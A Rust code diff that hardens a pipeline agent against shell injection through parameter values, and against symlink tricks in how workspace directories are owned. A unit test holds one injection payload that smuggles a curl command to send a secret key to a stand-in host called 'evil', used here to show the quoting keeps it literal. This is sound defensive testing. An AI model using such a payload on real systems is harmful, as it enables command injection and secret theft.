@@ -18,9 +18,35 @@ use crate::mask::Masker;
 /// How often buffered output is sent while a step runs.
 const FLUSH_EVERY: Duration = Duration::from_millis(100);
 
+/// Characters a parameter value may consist of to be inserted into a command as it is: none
+/// of them means anything to a shell (no quoting, expansion, globbing or command separator).
+fn is_plain(value: &str) -> bool {
+    value.chars().all(|c| {
+        c.is_ascii_alphanumeric()
+            || matches!(c, ' ' | '_' | '.' | ',' | ':' | '/' | '@' | '+' | '=' | '-')
+    })
+}
+
+/// A value with other characters, as one literal word of the step's shell: whoever runs a
+/// pipeline chooses its parameters, and a parameter must never become code (`x; curl …`).
+fn quoted(value: &str, shell: i32) -> Result<String, String> {
+    match pb::Shell::try_from(shell) {
+        Ok(pb::Shell::Pwsh) => Ok(format!("'{}'", value.replace('\'', "''"))),
+        Ok(pb::Shell::Cmd) => Err("cmd has no quoting that keeps every value literal".into()),
+        // bash, sh: single quotes keep everything literal; a quote is closed, escaped, reopened.
+        _ => Ok(format!("'{}'", value.replace('\'', r"'\''"))),
+    }
+}
+
 /// Replaces `{{NAME}}` with the parameter's value, the name matched case-insensitively (as the
-/// original system did); unknown names are left as they are.
-pub fn substitute(command: &str, parameters: &BTreeMap<String, String>) -> String {
+/// original system did); unknown names are left as they are. A value of plain characters
+/// ([`is_plain`]) goes in as it is; any other is quoted for the step's shell, so it stays one
+/// literal string (under `cmd`, which cannot quote it, the step does not run).
+pub fn substitute(
+    command: &str,
+    parameters: &BTreeMap<String, String>,
+    shell: i32,
+) -> Result<String, String> {
     let mut result = String::with_capacity(command.len());
     let mut rest = command;
     while let Some(start) = rest.find("{{") {
@@ -33,7 +59,11 @@ pub fn substitute(command: &str, parameters: &BTreeMap<String, String>) -> Strin
                     .iter()
                     .find(|(key, _)| key.eq_ignore_ascii_case(name))
                 {
-                    Some((_, value)) => result.push_str(value),
+                    Some((_, value)) if is_plain(value) => result.push_str(value),
+                    Some((key, value)) => result.push_str(
+                        &quoted(value, shell)
+                            .map_err(|problem| format!("parameter {key}: {problem}"))?,
+                    ),
                     None => result.push_str(&rest[start..start + 2 + end + 2]),
                 }
                 rest = &after[end + 2..];
@@ -45,7 +75,7 @@ pub fn substitute(command: &str, parameters: &BTreeMap<String, String>) -> Strin
         }
     }
     result.push_str(rest);
-    result
+    Ok(result)
 }
 
 /// The interpreter and arguments for a step, or why this agent cannot run it.
@@ -208,19 +238,23 @@ pub async fn run_job(
         .join(settings.customer_id.to_string())
         .join(assignment.pipeline_id.to_string());
     let workspace = pipeline_directory.join(execution_id.to_string());
-    let prepared = crate::workdir::create_private_directory(&pipeline_directory)
-        .and_then(|()| crate::workdir::create_private_directory(&workspace))
-        .and_then(|()| match &settings.run_as {
-            // The step user owns the directories its steps work in, and nothing else.
-            Some(user) => [
-                pipeline_directory.parent().unwrap_or(&pipeline_directory),
-                &pipeline_directory,
-                &workspace,
-            ]
-            .into_iter()
-            .try_for_each(|directory| user.take_ownership(directory)),
-            None => Ok(()),
-        });
+    let prepared = match &settings.run_as {
+        // The step user owns its job's workspace and nothing else: the directories above it
+        // stay the agent's (traversable, not listable), so a step cannot put a symlink where
+        // the agent, as root, will create, chmod or chown a directory later.
+        Some(user) => {
+            let customer_directory = pipeline_directory
+                .parent()
+                .unwrap_or(&pipeline_directory)
+                .to_path_buf();
+            crate::workdir::agent_directory(&customer_directory, 0o711)
+                .and_then(|()| crate::workdir::agent_directory(&pipeline_directory, 0o711))
+                .and_then(|()| crate::workdir::agent_directory(&workspace, 0o700))
+                .and_then(|()| user.take_ownership(&workspace))
+        }
+        None => crate::workdir::create_private_directory(&pipeline_directory)
+            .and_then(|()| crate::workdir::create_private_directory(&workspace)),
+    };
     if let Err(error) = prepared {
         jobs.outbox.push(
             execution_id,
@@ -297,8 +331,8 @@ pub async fn run_job(
         } else {
             format!("timed out after {} s", step_timeout.as_secs())
         };
-        let script = substitute(&step.command, &parameters);
-        let end = match interpreter(step.shell, script) {
+        let script = substitute(&step.command, &parameters, step.shell);
+        let end = match script.and_then(|script| interpreter(step.shell, script)) {
             Err(reason) => StepEnd::NotStarted(reason),
             Ok((program, arguments)) => {
                 let (output, mut received) = mpsc::channel(64);
@@ -417,6 +451,7 @@ async fn upload_artifacts(
             execution_id,
             step_index,
             &path,
+            workspace,
             &relative,
             jobs.settings.max_artifact_bytes,
         )
@@ -513,9 +548,39 @@ mod tests {
         assert_eq!(
             substitute(
                 "deploy {{version}} to {{ ENV }} ({{UNKNOWN}}) {{",
-                &parameters
+                &parameters,
+                pb::Shell::Bash as i32
             ),
-            "deploy 1.2 to prod ({{UNKNOWN}}) {{"
+            Ok("deploy 1.2 to prod ({{UNKNOWN}}) {{".to_owned())
+        );
+    }
+
+    #[test]
+    fn a_parameter_never_becomes_code() {
+        let parameters: BTreeMap<String, String> = [(
+            "TARGET".to_owned(),
+            "x'; curl -d \"$KEY\" evil #".to_owned(),
+        )]
+        .into();
+        let bash = substitute("deploy {{TARGET}}", &parameters, pb::Shell::Bash as i32)
+            .expect("bash quotes");
+        assert_eq!(bash, r#"deploy 'x'\''; curl -d "$KEY" evil #'"#);
+        // The shell itself reads it back as the one literal value.
+        let echoed = std::process::Command::new("sh")
+            .args(["-c", &bash.replacen("deploy", "printf %s", 1)])
+            .output()
+            .expect("sh");
+        assert_eq!(
+            String::from_utf8_lossy(&echoed.stdout),
+            parameters["TARGET"]
+        );
+        assert_eq!(
+            substitute("deploy {{TARGET}}", &parameters, pb::Shell::Pwsh as i32),
+            Ok(r#"deploy 'x''; curl -d "$KEY" evil #'"#.to_owned())
+        );
+        assert!(
+            substitute("deploy {{TARGET}}", &parameters, pb::Shell::Cmd as i32)
+                .is_err_and(|problem| problem.starts_with("parameter TARGET"))
         );
     }
 }
